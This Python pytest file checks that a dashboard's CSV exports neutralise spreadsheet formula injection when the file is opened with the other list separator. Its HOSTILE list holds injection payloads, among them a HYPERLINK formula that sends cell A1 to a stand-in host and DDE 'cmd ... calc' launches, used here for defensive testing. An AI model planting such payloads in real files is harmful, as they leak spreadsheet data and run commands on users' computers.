"""A CSV opened with the other list separator carries no formula (review of issue 20.2).

Excel splits a CSV on the computer's list separator, not the file's: a French file (";")
opened on an English Windows is split on ",". ``Rapport,=HYPERLINK(...)`` in any column then
made a cell starting with "=". Every field is quoted, and every piece that the other separator
(or a line break, which ends a row once quotes are no longer understood) would cut out of a
text is made inert like the start of the text.
"""

from __future__ import annotations

import csv
import io

import pytest

from dashboard.domain.spreadsheet import FORMULA_STARTS
from dashboard.services.audit import events_csv
from dashboard.services.reports.grid_export import grid_csv

HOSTILE = [
    'Rapport,=HYPERLINK("http://exemple.test/?q="&A1,"Cliquez ici")',
    'Rapport;=HYPERLINK("http://exemple.test","x")',
    "x, =1+1",
    'x,"=1+1"',
    "x;+cmd|' /C calc'!A0",
    "x,-2+3+cmd|' /C calc'!A0",
    "x;@SUM(1+1)",
    "ligne 1\n=1+1",
    "ligne 1\r\n@SUM(1+1)",
    "=1+1",
]
OTHER = {";": ",", ",": ";"}


def _cells(text: str, delimiter: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]


def _formula_cells(cells: list[str]) -> list[str]:
    return [cell for cell in cells if cell[:1] in FORMULA_STARTS]


@pytest.mark.parametrize(("lang", "separator"), [("fr", ";"), ("en", ","), ("ar", ";")])
def test_the_grid_csv_read_with_the_other_separator_has_no_formula(
    lang: str, separator: str
) -> None:
    columns = [{"field": f"c{i}", "header": f"Colonne {i}"} for i in range(3)]
    rows = [{"c0": text, "c1": text, "c2": 12.5} for text in HOSTILE]
    rows.append({"c0": "CETIA", "c1": HOSTILE[0], "c2": HOSTILE[1]})
    content = grid_csv(columns=columns, rows=rows, lang=lang).decode("utf-8")
    cells = _cells(content.removeprefix("\ufeff"), OTHER[separator])
    assert _formula_cells(cells) == []
    # Read with its own separator, the file still gives back each text, inert.
    own = list(csv.reader(io.StringIO(content.removeprefix("\ufeff")), delimiter=separator))
    assert len(own) == len(rows) + 1 and all(len(row) == 3 for row in own)
    assert own[1][2] == ("12.5" if lang == "en" else "12,5")
    assert "HYPERLINK" in own[1][0] and own[1][0].startswith("Rapport,")


def test_every_field_of_the_grid_csv_is_quoted() -> None:
    content = grid_csv(
        columns=[{"field": "a", "header": "A"}, {"field": "b", "header": "B"}],
        rows=[{"a": "CETIA", "b": 3}],
        lang="fr",
    ).decode("utf-8")
    assert content.removeprefix("\ufeff").splitlines() == ['"A";"B"', '"CETIA";"3"']


def test_the_audit_csv_read_with_a_comma_has_no_formula() -> None:
    rows = [{"username": text, "detail": text, "action": text} for text in HOSTILE]
    content = events_csv(rows)
    assert _formula_cells(_cells(content, ",")) == []
    own = list(csv.reader(io.StringIO(content), delimiter=";"))
    assert len({len(row) for row in own}) == 1  # every row has the header's columns


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("CETIA, CETIEV", "CETIA, CETIEV"),
        ("1,5;-2", "1,5;-2"),  # plain numbers after a separator cannot run anything
        ("Rapport,=1+1", "Rapport,'=1+1"),
        ("a;b,@x", "a;b,'@x"),
        ("a\n-b", "a\n'-b"),
        ("=1+1", "'=1+1"),
        ('x,"=1+1"', 'x,\'"=1+1"'),
    ],
)
def test_only_pieces_that_would_run_get_an_apostrophe(text: str, expected: str) -> None:
    from dashboard.domain.csv_cells import csv_inert_text

    assert csv_inert_text(text) == expected
